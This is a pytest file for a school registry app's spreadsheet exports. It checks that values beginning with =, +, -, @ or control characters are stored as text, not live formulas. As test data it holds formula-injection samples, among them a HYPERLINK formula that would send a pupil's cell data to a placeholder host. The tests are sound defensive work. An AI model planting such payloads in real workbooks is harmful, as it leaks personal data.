"""Formula injection: every workbook the program writes stores text as text, whatever it
starts with. A name, address or header beginning with `=`, `+`, `-`, `@`, a tab or a
carriage return must not leave as a live formula (`=HYPERLINK("http://…?"&B2, …)` would send
a pupil's data away from the registrar's Excel). Checked by reading the written XML: no
`<f>` element anywhere, and the text is there as text."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest
from openpyxl import Workbook

from desktop.domain.fields import template_headers
from desktop.exchange.audit_export import write_audit
from desktop.exchange.error_report import write_error_report
from desktop.exchange.files import apply_workbook, export_workbook, preview_import, read_import
from desktop.exchange.reconcile_report import write_reconcile_report
from desktop.exchange.stats_xlsx import statistics_workbook
from desktop.exchange.xlsx_writer import write_template
from desktop.services.context import Workspace
from desktop.services.importing.reconcile import Difference, Reconciliation
from desktop.services.reports.statistics import CountTable
from desktop.services.safekeeping.audit_view import AuditLine
from tests.factories import valid_row

LINK = '=HYPERLINK("http://example.invalid/?"&B2,"点这里")'
HOSTILE = (LINK, "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1", "\r=1+1", "=1+1")
_FORMULA = re.compile(rb"<(?:\w+:)?f[\s>/]")


def assert_no_formulas(data: bytes | Path, *, expected: tuple[str, ...] = HOSTILE) -> None:
    """No `<f>` in any worksheet of the package; every expected text is stored as text."""
    with zipfile.ZipFile(data if isinstance(data, Path) else io.BytesIO(data)) as book:
        xml = {name: book.read(name) for name in book.namelist() if name.endswith(".xml")}
    for name, body in xml.items():
        if name.startswith("xl/worksheets/"):
            assert not _FORMULA.search(body), f"a formula in {name}"
    texts = {node.strip() for body in xml.values()
             for node in ElementTree.fromstring(body).itertext()}
    for value in expected:
        assert value.strip() in texts, value


def _rows() -> list[dict[str, str]]:
    return [{"姓名": "王小明", "现住址": value, "特长": value} for value in HOSTILE]


def test_the_template_writer(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    write_template(path, _rows())
    assert_no_formulas(path)


def test_the_export_of_students_whose_addresses_start_with_a_formula(
        ws: Workspace, tmp_path: Path) -> None:
    rows = [valid_row(name=n, seq=11 + i) for i, n in enumerate(("王小明", "李小红", "张小刚"))]
    for row, value in zip(rows, (LINK, "+1+2", "@SUM(1,2)"), strict=True):
        row["现住址"] = row["家庭地址"] = value
    source = tmp_path / "in.xlsx"
    _text_workbook(source, rows)
    apply_workbook(ws, read_import(source))
    out = tmp_path / "out.xlsx"
    assert export_workbook(ws, out) == 3
    assert_no_formulas(out, expected=(LINK, "+1+2", "@SUM(1,2)"))


def test_the_import_error_report_keeps_hostile_cells_and_headers_as_text(
        ws: Workspace, tmp_path: Path) -> None:
    good, refused = valid_row(), valid_row(name="李小红", seq=12)
    good["现住址"], refused["出生日期"], refused["特长"] = LINK, "=NOW()", "-3+4"
    source = tmp_path / "in.xlsx"
    _text_workbook(source, [good, refused], extra="@SUM(1,2)")
    sheet = read_import(source)
    report = tmp_path / "report.xlsx"
    write_error_report(report, sheet, preview_import(ws, sheet).plan)
    assert_no_formulas(report, expected=(LINK, "=NOW()", "-3+4", "@SUM(1,2)"))


def test_statistics() -> None:
    table = CountTable("=1+1（按班级）", ("+男", "-女"), (("@三年级(2)班", (1, 2)), ("合计", (1, 2))))
    assert_no_formulas(statistics_workbook([table], "=HYPERLINK(1)"),
                       expected=("=HYPERLINK(1)\u3000=1+1（按班级）", "+男", "-女", "@三年级(2)班"))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_the_audit_export(tmp_path: Path, suffix: str) -> None:
    line = AuditLine(1, dt.datetime(2026, 11, 26, 8), "=cmd", "student.update", "student", "+1",
                     '{"after": {"现住址": "=HYPERLINK(1)"}}', "-abc")
    path = tmp_path / f"audit{suffix}"
    write_audit(path, [line])
    if suffix == ".csv":
        fields = path.read_text(encoding="utf-8-sig").splitlines()[1].split(",")
        assert fields[2] == "'=cmd" and fields[5] == "'+1" and fields[-1] == "'-abc"
    else:
        assert_no_formulas(path, expected=("=cmd", "+1", "-abc"))


def test_the_reconciliation_list(tmp_path: Path) -> None:
    result = Reconciliation(0, (), (Difference("only_national", 3, LINK, "@班", "=现住址",
                                               "+1", "-2"),))
    path = tmp_path / "r.xlsx"
    write_reconcile_report(path, result)
    assert_no_formulas(path, expected=(LINK, "@班", "=现住址", "+1", "-2"))


def _text_workbook(path: Path, rows: list[dict[str, str]], extra: str | None = None) -> None:
    """An import workbook whose text cells are text cells (as a user's Excel keeps a value
    typed after an apostrophe), an extra column headed `extra` when given."""
    headers = [*template_headers(), *([extra] if extra else [])]
    book = Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append([row.get(h) for h in headers])
    for cells in sheet.iter_rows():
        for cell in cells:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    book.save(path)
